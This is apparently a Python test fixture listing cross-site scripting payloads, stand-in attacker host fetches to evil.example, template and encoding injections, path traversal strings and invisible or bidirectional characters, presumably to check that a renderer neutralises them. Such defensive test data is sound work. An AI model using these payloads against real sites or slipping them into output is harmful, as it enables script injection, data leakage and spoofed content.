"""Texts that want to be more than texts: markup, scripts, addresses, styles, and characters that are not seen.

Each that runs would set `window.hit`, or ask evil.example for something.
"""

MARKUP = r"""
<script>hit=1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src="https://evil.example/a.js"></script>
<<script>hit=1//<</script>
</script><script>hit=1</script>
</style><script>hit=1</script>
</title><script>hit=1</script>
</svg><script>hit=1</script>
</textarea><script>hit=1</script>
</details></section></main><script>hit=1</script>
--><script>hit=1</script><!--
<!--<img src="--><img src=x onerror=hit=1>">
<![CDATA[<script>hit=1</script>]]>
]]><script>hit=1</script>
<img src=x onerror=hit=1>
<img src=x onerror="hit=1">
<img src="x` `<script>hit=1</script>"` `>
<img src='https://evil.example/p.png'>
<img srcset="https://evil.example/p.png 1x">
<img/src="https://evil.example/p.png"/onload=hit=1>
<image href="https://evil.example/p.png">
<svg onload=hit=1>
<svg><script>hit=1</script></svg>
<svg><animate onbegin=hit=1 attributeName=x dur=1s>
<svg><use href="https://evil.example/x.svg#a">
<svg><image xlink:href="https://evil.example/x.png">
<svg><foreignObject><iframe src="https://evil.example">
<svg><a xlink:href="javascript:hit=1"><text>x</text></a></svg>
<svg><style>@import "https://evil.example/x.css";</style></svg>
<math><mtext></mtext><script>hit=1</script></math>
<math href="javascript:hit=1">x</math>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>parent.hit=1</script>"></iframe>
<iframe src="javascript:parent.hit=1"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<video src="https://evil.example/x.mp4" autoplay>
<audio src=x onerror=hit=1>
<video><source onerror=hit=1 src=x></video>
<body onload=hit=1>
<html onmouseover=hit=1>
<input autofocus onfocus=hit=1>
<select autofocus onfocus=hit=1>
<details open ontoggle=hit=1>
<marquee onstart=hit=1>
<div onpointerenter=hit=1 style="position:fixed;inset:0">x</div>
<div style="background:url(https://evil.example/b.png)">x</div>
<div style="width:expression(hit=1)">x</div>
<style>*{background:url(https://evil.example/s.png)}</style>
<style>@import url(//evil.example/x.css);</style>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/x">
<link rel=dns-prefetch href="//evil.example">
<link rel=icon href="https://evil.example/favicon.ico">
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<form action="https://evil.example"><button autofocus>x</button></form>
<button formaction="javascript:hit=1">x</button>
<a href="javascript:hit=1">x</a>
<a href="JaVaScRiPt:hit=1">x</a>
<a href="java&#10;script:hit=1">x</a>
<a href="data:text/html,<script>hit=1</script>">x</a>
<a href="https://evil.example" ping="https://evil.example/ping">x</a>
<a href=//evil.example>x</a>
<template><script>hit=1</script></template>
<noscript><p title="</noscript><img src=x onerror=hit=1>">
<plaintext>
<xmp><script>hit=1</script></xmp>
<table background="https://evil.example/t.png">
<isindex action="javascript:hit=1">
<keygen autofocus onfocus=hit=1>
<portal src="https://evil.example"></portal>
<slot onslotchange=hit=1></slot>
<custom-element onclick=hit=1 tabindex=1>x</custom-element>
<p id=verdict>a second verdict</p>
<h1>Another question</h1>
<br><br><hr><strong>Consensus</strong>
&lt;script&gt;hit=1&lt;/script&gt;
&#60;script&#62;hit=1&#60;/script&#62;
&amp;lt;img src=x onerror=hit=1&amp;gt;
&NewLine;&Tab;&lbrace;
&#x202e;&#0;&#xD800;
" onmouseover="hit=1
' onmouseover='hit=1
"><script>hit=1</script>
'><script>hit=1</script>
"/><svg onload=hit=1>
` onmouseover=`hit=1
x" autofocus onfocus="hit=1" x="
") ; hit=1; //
'); hit=1; ('
javascript:hit=1
https://evil.example/?q=1
//evil.example
mailto:x@evil.example
url(https://evil.example/u.png)
expression(hit=1)
{{constructor.constructor('hit=1')()}}
${hit=1}
<%= hit=1 %>
#{hit=1}
[x](javascript:hit=1) ![y](https://evil.example/y.png)
+ADw-script+AD4-hit=1+ADw-/script+AD4-
%3Cscript%3Ehit=1%3C/script%3E
\x3cscript\x3ehit=1\x3c/script\x3e
\u003cscript\u003ehit=1\u003c/script\u003e
../../../etc/passwd
file:///etc/passwd
#h-map
url(#m-att)
__proto__ constructor toString
NaN Infinity null undefined
""".strip().splitlines()

UNSEEN = [
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069 \u2067right\u2069",
    "\u200bzero\u200cwidth\u200d\u2060\ufeff",
    "\x00nul \x07bell \x08back \x1b[31mred\x1b[0m \x7f \x9b31m",
    "line\u2028separator\u2029paragraph\x85next",
    "tags \U000e0041\U000e0042\U000e007f",
    "selectors \ufe00\U000e0100 blanks \u3164\u115f\u2800\uffa0 joiner \u034f",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 6 + "algo",
    "\ufff9anchor\ufffa note\ufffb",
    "lone \ud800 and \udfff",
    "\r\ncarriage\rreturn\ttab\x0bvertical\x0cform",
    "שלום עולם and مرحبا بالعالم",
    "\uff1cscript\uff1ehit=1\uff1c/script\uff1e",
    "👩‍👩‍👧‍👦 family, 🏳️‍🌈 flag",
    "long" * 400,
    "中文没有空格" * 60,
    "   ",
]

PAYLOADS = [*MARKUP, *UNSEEN]
HIDDEN = set(
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u2028\u2029\x85\u3164\u2800"
)
